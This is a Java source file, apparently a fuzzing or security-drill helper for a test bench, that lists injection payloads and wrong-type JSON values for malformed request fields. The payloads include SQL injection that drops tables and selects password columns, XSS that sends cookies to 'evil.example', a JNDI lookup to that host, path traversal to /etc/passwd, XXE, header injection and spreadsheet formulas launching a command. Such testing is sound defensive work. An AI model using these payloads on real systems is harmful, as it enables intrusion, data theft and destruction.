package com.griddesk.bench.drill;

import java.util.List;
import java.util.SplittableRandom;

/** Hostile values: injection strings for SQL, scripts, templates, paths and headers, and values of the wrong kind. */
final class Nasty {

  private Nasty() {}

  static final List<String> INJECTIONS = List.of(
      "' OR '1'='1",
      "' OR 1=1 -- ",
      "\" OR \"\"=\"",
      "'; DROP TABLE gd_case; --",
      "1; DELETE FROM ACT_RU_TASK; --",
      "' UNION SELECT ID_, PWD_, SALT_ FROM ACT_ID_USER -- ",
      "1' AND SLEEP(5) AND '1'='1",
      "%' AND 1=0 UNION SELECT NULL,NULL -- ",
      "\\'; SELECT 1; -- ",
      "admin'--",
      "') OR ('a'='a",
      "1 OR 1=1",
      "*/ OR /*",
      "<script>alert(1)</script>",
      "\"><img src=x onerror=alert(document.cookie)>",
      "javascript:alert(1)",
      "<svg/onload=alert(1)>",
      "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
      "${jndi:ldap://evil.example/a}",
      "${7*7}",
      "#{7*7}",
      "{{7*7}}",
      "${execution.setVariable('x', 1)}",
      "#{runtimeService.deleteProcessInstance('x','y')}",
      "../../../../etc/passwd",
      "..%2f..%2f..%2fetc%2fpasswd",
      "C:\\Windows\\win.ini",
      "\u0000",
      "a\u0000b",
      "line1\r\nSet-Cookie: injected=1",
      "%0d%0aSet-Cookie:%20x=1",
      "=cmd|' /C calc'!A0",
      "+SUM(1+1)*cmd|' /C calc'!A0",
      "@SUM(1+1)",
      "\u202Eevil\u202C",
      "𠜎𠜱𠝹𠱓 🔥💥",
      "\uFEFF",
      "null",
      "undefined",
      "NaN",
      "-1",
      "99999999999999999999999999999999",
      "",
      " ",
      "$where: '1 == 1'",
      "{\"$gt\": \"\"}",
      "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
      "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
      "%s%s%s%s%n",
      "AAAA".repeat(300));

  static String injection(SplittableRandom random) {
    return INJECTIONS.get(random.nextInt(INJECTIONS.size()));
  }

  /** JSON values (as JSON text) of a kind a field rarely expects. */
  static final List<String> WRONG_TYPES = List.of(
      "123", "-1", "0", "1.5e308", "-0.0", "1e99999", "true", "false", "null", "[]", "{}", "[1,2,3]",
      "{\"a\":1}", "\"\"", "\" \"", "[\"x\"]", "[null]", "{\"value\":{}}", "18446744073709551616",
      "\"" + "x".repeat(10_000) + "\"", "\"\\u0000\"", "\"\\ud800\"", "\"2026-02-30T25:61:00+08:00\"");

  static String wrongType(SplittableRandom random) {
    return WRONG_TYPES.get(random.nextInt(WRONG_TYPES.size()));
  }

  private static String rawAscii(String value) {
    StringBuilder out = new StringBuilder();
    for (char c : value.toCharArray()) {
      out.append(c > 0x20 && c < 0x7f ? String.valueOf(c) : Urls.encode(String.valueOf(c)));
    }
    return out.toString();
  }

  /** A path segment or query value that is not a valid one, percent-encoded or raw. */
  static String urlValue(SplittableRandom random) {
    String value = injection(random);
    return switch (random.nextInt(4)) {
      case 0 -> Urls.encode(value);
      case 1 -> Urls.encode(Urls.encode(value));
      // Raw ASCII (quotes, brackets, pipes...), but without CR and LF, which would end the request line (an HTTP/0.9
      // request, answered without a status line); other characters percent-encoded.
      case 2 -> rawAscii(value);
      default -> Urls.encodeAll(value);
    };
  }
}
